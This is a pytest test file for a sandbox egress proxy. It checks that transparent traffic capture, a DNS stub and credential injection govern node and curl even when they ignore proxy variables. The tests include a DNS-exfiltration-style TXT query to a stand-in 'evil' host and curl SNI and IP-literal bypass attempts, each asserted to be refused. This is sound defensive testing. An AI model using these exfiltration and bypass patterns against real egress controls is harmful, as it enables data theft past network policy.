"""Transparent capture + DNS stub: tools that ignore proxy variables are governed the same way.

A client network namespace gets the sandbox's shape in miniature: a default route into the
namespace, an nft rule redirecting TCP 80/443 to the proxy listener (created inside that
namespace from a helper thread), and a resolv.conf pointing at the proxy's DNS stub.
"""

from __future__ import annotations

import ctypes
import json
import os
import secrets as pysecrets
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import dns.message
import dns.query
import dns.rcode
import pytest

from corral.policy import resolve
from corral.proxy import trust_bundle
from corral.proxy.names import V4_POOL

from .conftest import NAMES, ListSink, Outside, start_proxy

POLICY = """
name: cap
egress:
  - host: api.corral.test
    action: inspect
    credential: tok
    tls_ca: OUTSIDE_CA
    allow_private: true
  - host: other.corral.test
    action: direct
    allow_private: true
credentials:
  tok: {secret: tok, header: Authorization, format: "Bearer {secret}", env: TOK}
"""
SECRET = "SECRET-CAPTURED-77"
CLONE_NEWNET = 0x40000000


def _sockets_in(ns: str) -> tuple[list[socket.socket], list[socket.socket], int]:
    """Listener (v4+v6) and DNS sockets created inside ``ns`` from a helper thread."""
    out: dict[str, object] = {}

    def work() -> None:
        libc = ctypes.CDLL(None, use_errno=True)
        fd = os.open(f"/run/netns/{ns}", os.O_RDONLY)
        try:
            if libc.setns(fd, CLONE_NEWNET) != 0:
                out["error"] = OSError(ctypes.get_errno(), "setns")
                return
        finally:
            os.close(fd)
        v4 = socket.create_server(("127.0.0.1", 0))
        port = v4.getsockname()[1]
        v6 = socket.create_server(("::1", port), family=socket.AF_INET6)
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("127.0.0.1", 53))
        out.update(listen=[v4, v6], dns=[udp], port=port)

    thread = threading.Thread(target=work)
    thread.start()
    thread.join()
    if "error" in out:
        raise out["error"]  # type: ignore[misc]
    return out["listen"], out["dns"], out["port"]  # type: ignore[return-value]


@dataclass
class Captured:
    ns: str
    sink: ListSink
    env: dict[str, str]
    bundle: Path

    def run(self, *argv: str, timeout: float = 30) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["ip", "netns", "exec", self.ns, *argv],
            env=self.env, capture_output=True, text=True, timeout=timeout,
        )


@pytest.fixture
def captured(outside: Outside, tmp_path: Path, corral_env: dict[str, str]) -> Iterator[Captured]:
    from conftest import require_tools

    require_tools("nft", "ip", "node", "curl")
    ns = f"corral-t-c{pysecrets.token_hex(3)}"
    netns_etc = Path("/etc/netns") / ns
    policy_file = tmp_path / "cap.yaml"
    policy_file.write_text(POLICY.replace("OUTSIDE_CA", str(outside.ca)))
    handle = None
    try:
        subprocess.run(["ip", "netns", "add", ns], check=True)
        # A veth pair whose both ends stay in the namespace gives connections a real source
        # address and the namespace a default route; nothing is attached, so nothing leaves.
        for cmd in (
            ["ip", "link", "set", "lo", "up"],
            ["ip", "link", "add", "crl0", "type", "veth", "peer", "name", "crl1"],
            ["ip", "link", "set", "crl1", "up"],
            ["ip", "addr", "add", "10.250.254.2/32", "dev", "crl0"],
            ["ip", "addr", "add", "fd00:cafe::2/128", "dev", "crl0", "nodad"],
            ["ip", "link", "set", "crl0", "up"],
            ["ip", "route", "add", "default", "dev", "crl0"],
            ["ip", "-6", "route", "add", "default", "dev", "crl0"],
        ):
            subprocess.run(["ip", "netns", "exec", ns, *cmd], check=True)
        listen, dns_socks, port = _sockets_in(ns)
        rules = f"""
        table inet corral_test {{
          chain out {{
            type nat hook output priority -100; policy accept;
            ip daddr != 127.0.0.0/8 tcp dport {{ 80, 443 }} redirect to :{port}
            ip6 daddr != ::1 tcp dport {{ 80, 443 }} redirect to :{port}
          }}
        }}
        """
        subprocess.run(["ip", "netns", "exec", ns, "nft", "-f", "-"], input=rules, text=True,
                       check=True)
        netns_etc.mkdir(parents=True)
        (netns_etc / "resolv.conf").write_text("nameserver 127.0.0.1\n")
        sink = ListSink()
        try:
            handle, pem = start_proxy(resolve([str(policy_file)], use_cache=False), listen,
                                      dns_socks, secrets={"tok": SECRET}, audit=sink,
                                      overrides={n: [outside.ip] for n in NAMES})
        finally:
            for sock in listen + dns_socks:
                sock.close()
        bundle = tmp_path / "bundle.pem"
        bundle.write_bytes(trust_bundle(pem))
        env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path),
               "NODE_EXTRA_CA_CERTS": str(bundle), "SSL_CERT_FILE": str(bundle),
               "CURL_CA_BUNDLE": str(bundle)}
        yield Captured(ns, sink, env, bundle)
    finally:
        if handle is not None:
            handle.stop()
        shutil.rmtree(netns_etc, ignore_errors=True)
        subprocess.run(["ip", "netns", "del", ns], check=False)


def test_dns_stub_answers_allowed_names_only(captured: Captured) -> None:
    def ask(name: str, rdtype: str) -> dns.message.Message:
        query = dns.message.make_query(name, rdtype)
        done = captured.run(
            "python3", "-c",
            "import sys,socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(5);"
            "s.sendto(bytes.fromhex(sys.argv[1]),('127.0.0.1',53));"
            "print(s.recv(4096).hex())",
            query.to_wire().hex(),
        )
        assert done.returncode == 0, done.stderr
        return dns.message.from_wire(bytes.fromhex(done.stdout.strip()))

    allowed = ask("api.corral.test", "A")
    (rrset,) = allowed.answer
    assert rrset[0].address in {str(a) for a in list(V4_POOL)[:4096]}
    assert ask("api.corral.test", "AAAA").answer[0][0].address.startswith("fd63:6f72")
    assert ask("evil.corral.test", "A").rcode() == dns.rcode.NXDOMAIN
    assert ask("exfil-c2VjcmV0.evil.corral.test", "TXT").rcode() == dns.rcode.NXDOMAIN
    assert captured.sink.of("dns.query", name="evil.corral.test", rcode="NXDOMAIN")
    assert captured.sink.of("dns.query", name="api.corral.test", rcode="NOERROR")


def test_node_fetch_without_proxy_support_is_captured(captured: Captured) -> None:
    script = (
        "fetch('https://api.corral.test/echo',{headers:{authorization:'Bearer nope'}})"
        ".then(r=>r.text()).then(t=>{console.log(t)})"
        ".catch(e=>{console.log('ERR', e.cause && e.cause.code); process.exit(3)})"
    )
    done = captured.run("node", "-e", script)
    assert done.returncode == 0, done.stdout + done.stderr
    echo = json.loads(done.stdout)
    received = [[k.lower(), bytes.fromhex(v).decode()] for k, v in echo["headers_hex"]]
    assert ["authorization", f"Bearer {SECRET}"] in received  # the echo itself is scrubbed
    assert captured.sink.of("proxy.inspect", host="api.corral.test", status=200)
    assert captured.sink.of("credential.inject", binding="tok")
    denied = captured.run("node", "-e", script.replace("api.corral.test", "evil.corral.test"))
    assert denied.returncode == 3 and "ENOTFOUND" in denied.stdout


def test_curl_without_proxy_env_plain_and_direct(captured: Captured, outside: Outside) -> None:
    plain = captured.run("curl", "-sS", "http://api.corral.test/echo")
    assert plain.returncode == 0, plain.stderr
    assert json.loads(plain.stdout)["tls"] is False
    assert captured.sink.of("proxy.inspect", host="api.corral.test", port=80)
    direct = captured.run("curl", "-sS", "--cacert", str(outside.ca),
                          "https://other.corral.test/echo")
    assert direct.returncode == 0, direct.stderr
    assert captured.sink.of("proxy.allow", host="other.corral.test", mode="direct")


def test_ip_literal_and_sni_tricks_are_refused(captured: Captured, outside: Outside) -> None:
    # Straight to an IP (skipping DNS), claiming an allowed name in SNI: refused.
    done = captured.run("curl", "-sS", "--max-time", "10", "--resolve",
                        f"api.corral.test:443:{outside.ip}", "https://api.corral.test/echo")
    assert done.returncode != 0
    assert captured.sink.of("proxy.deny", host=outside.ip)
    # An allowed name's synthetic address, but SNI naming another host: refused.
    done = captured.run("curl", "-sS", "--max-time", "10", "--connect-to",
                        "other.corral.test:443:api.corral.test:443", "-k",
                        "https://other.corral.test/echo")
    assert done.returncode != 0
    assert any("does not match" in e["reason"] for e in captured.sink.of("proxy.deny"))
    assert not captured.sink.of("proxy.allow", host="other.corral.test")
